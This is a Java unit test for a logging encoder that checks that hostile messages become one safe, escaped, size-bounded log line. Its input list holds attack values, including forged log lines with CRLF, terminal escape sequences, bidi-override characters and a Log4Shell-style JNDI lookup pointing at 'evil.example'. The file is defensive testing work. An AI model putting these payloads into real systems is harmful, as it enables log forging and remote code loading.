package io.heliograph.launcher.logging;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.LoggingEvent;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class LineEncoderTest {
    private static final String END = System.lineSeparator();

    static Stream<String> hostile() {
        Stream<String> written = Stream.of(
                "a\r\n12:00:00.000 ERROR Hub - all is lost",
                "a\n\n\nb",
                "\u001b[2J\u001b[31mred\u001b]0;title\u0007",
                "\u009b31m",
                "a\u0085b\u2028c\u2029d",
                "\u202Eesrever\u2066\u200B\uFEFF",
                "half \uD83D a pair \uDE00",
                "\0",
                "${jndi:ldap://evil.example/a}",
                "{} {} %s %n",
                "x".repeat(1 << 20),
                "\n".repeat(1 << 20),
                "漢".repeat(1 << 20));
        Random random = new Random(16);
        Stream<String> drawn = IntStream.range(0, 200)
                .mapToObj(i -> random.ints(random.nextInt(3_000), 0, 0x3000)
                        .collect(StringBuilder::new, (text, c) -> text.append((char) c), StringBuilder::append)
                        .toString());
        return Stream.concat(written, drawn);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void anEventIsALineWhereverTheTextStands(String text) {
        RuntimeException failure = new IllegalStateException(text, new IllegalArgumentException(text));
        for (String line : List.of(line(text, null), line("an agent: " + text, null), line("it failed", failure))) {
            assertThat(line).endsWith(END);
            String within = line.substring(0, line.length() - END.length());
            assertThat(within.codePoints().filter(LineEncoderTest::isObeyed)).isEmpty();
            assertThat(line.getBytes(StandardCharsets.UTF_8)).hasSizeLessThanOrEqualTo(Line.MOST_BYTES);
            assertThat(new String(line.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8))
                    .isEqualTo(line);
        }
    }

    @Test
    void plainTextIsAsItIs() {
        assertThat(line("żółć 漢字 😀 ${jndi:x}", null))
                .matches("\\d\\d:\\d\\d:\\d\\d\\.\\d{3} WARN {2}Hub - żółć 漢字 😀 \\$\\{jndi:x}" + END);
        assertThat(line("a\tb\r\n", null)).endsWith("Hub - a\\u0009b\\u000d\\u000a" + END);
    }

    @Test
    void aFailureIsToldByItsCausesAndWhereItCameFrom() {
        Exception failure = new IllegalStateException("x".repeat(3_000), new IllegalArgumentException("why"));
        assertThat(line("it failed", failure))
                .contains("it failed | java.lang.IllegalStateException: xxx")
                .contains("x… | caused by java.lang.IllegalArgumentException: why | at "
                        + getClass().getName());
    }

    @Test
    void causesThatGoInACircleEnd() {
        Exception first = new IllegalStateException("first");
        Exception second = new IllegalStateException("second", first);
        first.initCause(second);
        assertThat(line("it failed", first)).contains("first", "second").endsWith(END);
    }

    private static boolean isObeyed(int c) {
        return Character.isISOControl(c)
                || c == 0x2028
                || c == 0x2029
                || c >= 0x202A && c <= 0x202E
                || c >= 0x2066 && c <= 0x2069
                || c >= 0xD800 && c <= 0xDFFF;
    }

    private static String line(String message, Throwable failure) {
        LoggerContext context = new LoggerContext();
        LoggingEvent event =
                new LoggingEvent("", context.getLogger("io.heliograph.Hub"), Level.WARN, message, failure, null);
        return new String(new LineEncoder().encode(event), StandardCharsets.UTF_8);
    }
}
